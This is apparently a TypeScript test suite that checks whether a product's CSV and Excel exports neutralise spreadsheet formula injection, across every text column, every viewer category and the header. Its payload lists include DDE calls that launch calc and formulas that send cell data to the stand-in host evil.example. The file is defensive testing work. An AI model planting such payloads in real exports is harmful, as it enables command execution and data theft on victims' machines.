/**
 * Quality S6: what a spreadsheet could run, in every text column of every list as every kind of viewer, in the header, and in
 * both kinds of file. The oracle is written by hand from spec §5 and knows nothing of the product's guard.
 */

import { parse } from 'csv-parse/sync'
import { readXlsx } from 'hucre/xlsx'
import { expect, test } from 'vitest'
import { entities } from '#business/entities.ts'
import type { Category } from '#entity/access.ts'
import { CATEGORIES } from '#entity/access.ts'
import type { Field, FieldKind } from '#entity/entity.ts'
import { findField } from '#entity/path.ts'
import { category_roles } from '#entity/roles.ts'
import { empty_list_state } from '#entity/url-codec.ts'
import { day } from '#kernel/day.ts'
import { instant } from '#kernel/instant.ts'
import type { About, ExportColumn } from '#server/export/export-cells.ts'
import { type ExportFormat, formats } from '#server/export/export-formats.ts'
import { lists } from '#test/lists/registry.ts'
import type { Session } from '#web/core/session.ts'
import { exportColumns } from '#web/list/model/export-request.ts'
import { shapeList } from '#web/list/model/shape.ts'

const openers = ['=', '+', '-', '@', '\\', '\t', '\r']
const bodies = [
  '1+1',
  'SUM(A1:A9)*2',
  `cmd|' /C calc'!A0`,
  'HYPERLINK("http://evil.example/?x="&A1,"open, please")',
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  '"quoted"; and, more',
  '2\r\n=3',
]
/** Signs before the sign, which one program or another reads past. */
const hidden = [
  '\n=1',
  ' =1+1',
  '\u00a0@x',
  '\ufeff=1',
  '\u200b+1',
  '\r\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '\u0001=1',
  '  \t-1',
]
const payloads = [...openers.flatMap((sign) => bodies.map((body) => sign + body)), ...hidden]
const harmless = [
  'O’Neill',
  'a=1',
  '"=1"',
  "'=1",
  '1-1',
  '\nplain',
  ' padded ',
  'two\nlines',
  '😀 Zoë; £5, "x"',
]

/**
 * Kinds whose cells can be no text of anybody's: numbers, days, moments, yes or no, words of a closed list, and JSON, which
 * begins with its own bracket. Every other kind is asked, also one that is added tomorrow.
 */
const no_text: readonly FieldKind[] = [
  'uuid',
  'money',
  'rate',
  'units',
  'percent',
  'integer',
  'day',
  'instant',
  'boolean',
  'choice',
  'json',
]
const isText = (field: Field) => !no_text.includes(field.kind)
/** As the data endpoint gives a text of this kind. */
const answered = ({ kind }: Field, text: string): unknown => (kind === 'tags' ? [text] : text)
/** And as it is shown: tags begin with a capital. */
const shownAs = ({ kind }: Field, text: string) =>
  kind === 'tags' ? text.charAt(0).toUpperCase() + text.slice(1) : text
const about: About = {
  title: '=Title',
  business_name: 'x',
  user_name: 'x',
  as_of: instant('2025-06-15T11:00:00.000Z'),
  facts: [],
  rows_matched: payloads.length + harmless.length,
  rows_held: payloads.length + harmless.length,
}

async function file(format: ExportFormat, columns: readonly ExportColumn[], texts: readonly string[]) {
  async function* pages() {
    yield texts.map((text) => columns.map(({ shape }) => answered(shape, text)))
  }
  const chunks: Uint8Array[] = []
  for await (const bytes of format.write(columns, pages(), about, new AbortController().signal))
    chunks.push(bytes)
  return Buffer.concat(chunks)
}

const readers = {
  csv: async (bytes: Buffer): Promise<string[][]> => parse(bytes),
  excel: async (bytes: Buffer): Promise<string[][]> =>
    ((await readXlsx(bytes)).sheets[0]?.rows ?? []).map((row) => row.map((cell) => String(cell ?? ''))),
}

/** XML knows no such signs. */
const inXml = (text: string) => text.replace(/[^\P{Cc}\t\n\r]/gu, '')
/** Spec §5, by hand. */
const wanted = (text: string) =>
  /^[=+\-@\\\t\r]/.test(text) || hidden.includes(text) || hidden.map(inXml).includes(text) ? `'${text}` : text

type TextColumns = { readonly name: string; readonly columns: readonly ExportColumn[] }

async function textColumns(category: Category): Promise<TextColumns[]> {
  // A list reads no more of the session than the category and the roles.
  const session = { category, roles: category_roles[category] } as unknown as Session
  const found: TextColumns[] = []
  for (const [name, load] of Object.entries(lists)) {
    const list = await load(category)
    const shaped = shapeList(entities, list, session)
    const asked = { entities, shaped, state: empty_list_state, base: {}, today: day('2025-06-15') }
    const { shown, file_only } = exportColumns(asked)
    const columns = [...shown, ...file_only].flatMap(({ field, label }) => {
      const shape = findField(entities, list.entity, field)?.field
      return shape && isText(shape) ? [{ label: `=${label}`, shape }] : []
    })
    if (columns.length > 0) found.push({ name, columns })
  }
  return found
}

const kinds = new Set<FieldKind>()

test('there are payloads enough, and all of them would be run', () => {
  expect(payloads.length).toBeGreaterThanOrEqual(60)
  expect(new Set(payloads).size).toBe(payloads.length)
  for (const payload of payloads) expect(wanted(payload)).toBe(`'${payload}`)
  for (const text of harmless) expect(wanted(text)).toBe(text)
})

test.each(CATEGORIES)(
  'no text column of any list of a %s lets a formula through, in CSV or Excel',
  async (category) => {
    const texts = [...payloads, ...harmless]
    const all = await textColumns(category)
    expect(all.length).toBeGreaterThan(10)
    for (const { name, columns } of all)
      for (const format of ['csv', 'excel'] as const) {
        const [header = [], ...rows] = await readers[format](await file(formats[format], columns, texts))
        expect([name, header]).toEqual([name, columns.map(({ label }) => `'${label}`)])
        const as = format === 'csv' ? (text: string) => text : inXml
        expect([name, rows]).toEqual([
          name,
          texts.map((text) => columns.map(({ shape }) => as(wanted(as(shownAs(shape, text)))))),
        ])
        for (const { shape } of columns) kinds.add(shape.kind)
      }
  },
  120_000,
)

test('every kind of text that lists have was among them', () => {
  for (const kind of ['code', 'email', 'human_id', 'phone', 'tags', 'text'] as const)
    expect(kinds).toContain(kind)
})
